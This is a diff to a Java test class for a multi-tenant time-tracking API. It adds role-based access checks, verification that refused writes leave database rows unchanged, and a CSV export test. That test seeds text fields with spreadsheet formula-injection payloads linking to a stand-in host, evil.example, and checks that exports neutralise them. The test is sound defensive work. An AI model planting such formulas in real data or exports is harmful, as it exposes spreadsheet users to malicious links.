@@ -7,23 +7,34 @@ import java.math.BigDecimal;
 import java.math.BigInteger;
 import java.net.URI;
 import java.net.URLEncoder;
+import java.sql.Connection;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Arrays;
+import java.util.HashMap;
 import java.util.Iterator;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.function.UnaryOperator;
 
 import org.eclipse.microprofile.config.ConfigProvider;
 import org.junit.jupiter.api.Test;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.dataformat.csv.CsvMapper;
+import com.fasterxml.jackson.dataformat.csv.CsvParser;
 
 import dev.backlight.testing.TestTokens;
+import io.agroal.api.AgroalDataSource;
+import io.quarkus.arc.Arc;
 import dev.backlight.testing.UpstreamServices;
 import io.quarkus.test.common.ResourceArg;
 import io.quarkus.test.common.WithTestResource;
@@ -53,7 +64,10 @@ class RobustnessTest {
             "+999999999-12-31", "-999999999-01-01", "2026-02-30", "2026-13", "a\u0000b", "", "1.5");
     private static final List<String> BAD_PATH_VALUES = List.of("abc", "0", "-1", "99999999999999999999", "a%00b",
             "+999999999-12-31", "2026-13");
-    private static final List<String> ROLES = List.of("tenant-admin", "manager", "analyst", "staff");
+    private static final List<String> ROLES = List.of("tenant-admin", "manager", "analyst", "staff", "platform-admin");
+    private static final String ROLE_REFUSAL = "Your role does not allow this operation";
+    /** The services' schemas, whose rows a refused request must leave as they were. */
+    private static final List<String> SERVICE_SCHEMAS = List.of("timekeeping", "metrics", "costing");
     private static final ObjectMapper JSON = new ObjectMapper();
 
     private static JsonNode document;
@@ -80,13 +94,17 @@ class RobustnessTest {
     }
 
     private static String tokenFor(String role) {
+        if (role.equals("platform-admin")) {
+            return TestTokens.token(null, "root", role);
+        }
         return TestTokens.token(tenant, role.equals("staff") ? "sam" : role + "-" + tenant, role);
     }
 
-    /** One request of the fuzz: what it was and how it was answered. */
-    private record Probe(String method, String path, String variant, int status, String contentType) {
+    /** One request of the fuzz: what it was, how it was answered, and whether a refusal left a row changed. */
+    private record Probe(String method, String path, String variant, int status, String contentType, String refusal,
+            boolean wroteAnyway) {
         boolean acceptable() {
-            return status < 500 && (status < 400 || contentType.startsWith("application/problem+json"));
+            return status < 500 && (status < 400 || contentType.startsWith("application/problem+json")) && !wroteAnyway;
         }
     }
 
@@ -94,13 +112,20 @@ class RobustnessTest {
     void malformedAndExtremeInputsNeverCauseAServerErrorAndAreRefusedWithProblems() throws Exception {
         readTheDocumentAndMakeATenant();
         List<Probe> probes = new ArrayList<>();
+        List<String> roleMismatches = new ArrayList<>();
         for (Operation operation : operations()) {
             // The fuzz runs as the first role the operation lets in, so that its inputs are read at all.
             String allowed = null;
             for (String role : ROLES) {
                 Probe probe = send(operation, tokenFor(role), role, operation.samplePath(), Map.of(), operation.sampleBody());
                 probes.add(probe);
-                if (allowed == null && probe.status() != 403) {
+                // The tenant x role x operation matrix: the roles the document lists get past the role check, no other.
+                boolean listed = operation.roles().contains(role);
+                if (listed ? probe.status() == 401 || isRoleRefusal(probe) : !isRoleRefusal(probe)) {
+                    roleMismatches.add(probe + (listed ? " though the document lets " : " though the document does not let ")
+                            + role + " in " + operation.roles());
+                }
+                if (allowed == null && listed) {
                     allowed = tokenFor(role);
                 }
             }
@@ -128,12 +153,106 @@ class RobustnessTest {
                 }
             }
         }
+        assertTrue(roleMismatches.isEmpty(), roleMismatches.size() + " answers do not match the roles the document lists:\n"
+                + String.join("\n", roleMismatches.stream().limit(60).toList()));
         List<Probe> failures = new ArrayList<>(probes.stream().filter(probe -> !probe.acceptable()).toList());
         // Every operation of the API needs a token: without one it is a 401, whatever else is wrong.
         failures.addAll(probes.stream().filter(probe -> probe.variant().equals("no token") && probe.status() != 401).toList());
         assertTrue(probes.size() > 1000, "the fuzz sent " + probes.size() + " requests");
         assertTrue(failures.isEmpty(), failures.size() + " of " + probes.size() + " answers were a 5xx or a refusal without "
                 + "problem details:\n" + String.join("\n", failures.stream().limit(60).map(Probe::toString).toList()));
+    }
+
+    /** A formula as a spreadsheet would run it, in a different form for each text field it is written into. */
+    private static String formula(String where) {
+        return "=HYPERLINK(\"http://evil.example/" + where + "\",\"" + where + "\")";
+    }
+
+    @Test
+    void noCsvOfTheApiCarriesALiveFormulaWhateverTextUsersEntered() throws Exception {
+        readTheDocumentAndMakeATenant();
+        String admin = tokenFor("tenant-admin");
+        service("time-service", admin).contentType(ContentType.JSON).body(Map.of("code", "FX", "name", formula("client")))
+                .post("/api/time/clients").then().statusCode(201);
+        long employee = service("time-service", admin).contentType(ContentType.JSON)
+                .body(Map.of("name", "+" + formula("employee"), "email", "ada@" + tenant + ".example", "subject", "ada",
+                        "team", "@" + formula("team")))
+                .post("/api/time/employees").then().statusCode(201).extract().jsonPath().getLong("id");
+        service("time-service", admin).contentType(ContentType.JSON)
+                .body(Map.of("employeeId", employee, "functionCode", "REPORTING", "clientCode", "FX",
+                        "startedAt", "2026-03-02T09:00:00Z", "endedAt", "2026-03-02T10:30:00Z",
+                        "notes", "-" + formula("notes"), "externalRef", "\t" + formula("externalRef")))
+                .post("/api/time/entries").then().statusCode(201);
+        seed("POST", "/api/metrics/spikes/deadlines", body -> body.put("name", formula("deadline"))
+                .put("functionCode", "REPORTING").put("ownerEmployeeId", employee).putNull("clientCode"));
+        seed("POST", "/api/metrics/objectives", body -> body.put("title", formula("objective"))
+                .put("functionCode", "REPORTING").put("ownerEmployeeId", employee));
+        seed("PUT", "/api/metrics/ownership/REPORTING", body -> body.put("definitionOfDone", formula("done"))
+                .put("ownerEmployeeId", employee).putNull("backupEmployeeId"));
+        seed("POST", "/api/metrics/processes", body -> body.put("name", formula("process")).put("note", formula("note"))
+                .put("functionCode", "REPORTING").putNull("replaces"));
+        seed("POST", "/api/costing/process-fixes", body -> body.put("name", formula("fix")).put("functionCode", "REPORTING"));
+
+        Map<String, String> sampleValues = Map.of("from", "2026-03-01", "to", "2026-04-01", "month", "2026-03",
+                "quarter", "2026-Q1", "asOf", "2026-03-31", "groupBy", "employee,team,client,function");
+        CsvMapper csv = new CsvMapper();
+        List<String> failures = new ArrayList<>();
+        int exports = 0;
+        int neutralised = 0;
+        for (Operation operation : operations()) {
+            if (!operation.method().equals("GET") || !operation.answersCsv()) {
+                continue;
+            }
+            Map<String, String> query = new LinkedHashMap<>();
+            operation.queryParameters().stream().filter(sampleValues::containsKey).forEach(name -> query.put(name, sampleValues.get(name)));
+            String path = operation.path().replace("{functionCode}", "REPORTING");
+            Response answer = toOwnerOf(path, admin).queryParams(query).accept("text/csv").get(path);
+            if (answer.statusCode() != 200) {
+                failures.add(operation.path() + " " + query + ": " + answer.statusCode() + " " + answer.asString());
+                continue;
+            }
+            exports++;
+            try (MappingIterator<List<String>> rows = csv.readerForListOf(String.class).with(CsvParser.Feature.WRAP_AS_ARRAY)
+                    .readValues(answer.asString())) {
+                for (List<String> row : rows.readAll()) {
+                    for (String cell : row) {
+                        if (cell.startsWith("'") && cell.length() > 1 && "=+-@\t\r".indexOf(cell.charAt(1)) >= 0) {
+                            neutralised++;
+                        } else if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+(\\.\\d+)?")) {
+                            failures.add(operation.path() + " writes a live formula cell: " + cell);
+                        }
+                    }
+                }
+            }
+        }
+        assertTrue(failures.isEmpty(), String.join("\n", failures));
+        assertTrue(exports >= 15, exports + " CSV exports read");
+        // Each of the formulas entered above came out, neutralised, somewhere.
+        assertTrue(neutralised >= 9, neutralised + " neutralised cells");
+    }
+
+    /** A request to the service that owns {@code path}. */
+    private static RequestSpecification toOwnerOf(String path, String token) {
+        return service(SERVICE_OF_PREFIX.entrySet().stream().filter(e -> path.startsWith(e.getKey())).map(Map.Entry::getValue)
+                .findFirst().orElseThrow(), token);
+    }
+
+    /** Sends the operation's plausible body, changed by {@code change}, as the tenant's admin; it must be accepted. */
+    private static void seed(String method, String path, UnaryOperator<ObjectNode> change) {
+        Operation operation = operations().stream().filter(o -> o.method().equals(method)
+                && path.matches(o.path().replaceAll("\\{[^}]+}", "[^/]+"))).findFirst().orElseThrow();
+        ObjectNode body = change.apply((ObjectNode) JSON.valueToTree(readTree(operation.sampleBody())));
+        int status = toOwnerOf(path, tokenFor("tenant-admin")).contentType(ContentType.JSON).body(body.toString())
+                .request(method, path).then().extract().statusCode();
+        assertTrue(status == 200 || status == 201, method + " " + path + " " + body + " answered " + status);
+    }
+
+    private static JsonNode readTree(String json) {
+        try {
+            return JSON.readTree(json);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
     }
 
     private static String encode(String value) {
@@ -156,9 +275,50 @@ class RobustnessTest {
         if (accept != null) {
             request = request.accept(accept);
         }
+        boolean writes = !operation.method().equals("GET");
+        Map<String, String> before = writes ? rowsOfTheServices() : Map.of();
         Response response = request.request(operation.method(), path);
+        boolean refused = response.statusCode() >= 400;
+        String refusal = refused && String.valueOf(response.contentType()).startsWith("application/problem+json")
+                ? response.jsonPath().getString("detail") : null;
         return new Probe(operation.method(), operation.path(), variant, response.statusCode(),
-                String.valueOf(response.contentType()));
+                String.valueOf(response.contentType()), refusal, writes && refused && !before.equals(rowsOfTheServices()));
+    }
+
+    /** A 403 of the role check, not of a rule about the data (such as staff reading someone else's time). */
+    private static boolean isRoleRefusal(Probe probe) {
+        return probe.status() == 403 && ROLE_REFUSAL.equals(probe.refusal());
+    }
+
+    private static String fingerprintQuery;
+
+    /** Per table of the services' schemas: how many rows and a hash of their content, to see any change at all. */
+    private static Map<String, String> rowsOfTheServices() {
+        AgroalDataSource database = Arc.container().instance(AgroalDataSource.class).get();
+        try (Connection connection = database.getConnection(); Statement statement = connection.createStatement()) {
+            if (fingerprintQuery == null) {
+                List<String> tables = new ArrayList<>();
+                try (ResultSet rows = statement.executeQuery("SELECT table_schema || '.' || table_name FROM information_schema.tables"
+                        + " WHERE table_type = 'BASE TABLE' AND table_name <> 'flyway_schema_history' AND table_schema IN ('"
+                        + String.join("','", SERVICE_SCHEMAS) + "') ORDER BY 1")) {
+                    while (rows.next()) {
+                        tables.add(rows.getString(1));
+                    }
+                }
+                assertTrue(tables.size() > 20, "the services' tables: " + tables);
+                fingerprintQuery = String.join(" UNION ALL ", tables.stream().map(table -> "SELECT '" + table
+                        + "', count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM " + table + " t").toList());
+            }
+            Map<String, String> fingerprint = new HashMap<>();
+            try (ResultSet rows = statement.executeQuery(fingerprintQuery)) {
+                while (rows.next()) {
+                    fingerprint.put(rows.getString(1), rows.getString(2));
+                }
+            }
+            return fingerprint;
+        } catch (SQLException e) {
+            throw new IllegalStateException(e);
+        }
     }
 
     private static List<Operation> operations() {
@@ -194,9 +354,21 @@ class RobustnessTest {
             return parameters("query");
         }
 
+        /** The roles the document says may call it. */
+        List<String> roles() {
+            List<String> roles = new ArrayList<>();
+            node.path("security").forEach(requirement -> requirement.path("bearer").forEach(role -> roles.add(role.asText())));
+            return roles;
+        }
+
         /** The path with a plausible value in each parameter. */
         String samplePath() {
             return path.replaceAll("\\{[^}]+}", "1");
+        }
+
+        boolean answersCsv() {
+            JsonNode ok = node.path("responses").path("200").path("content");
+            return ok.has("text/csv");
         }
 
         boolean hasBody() {
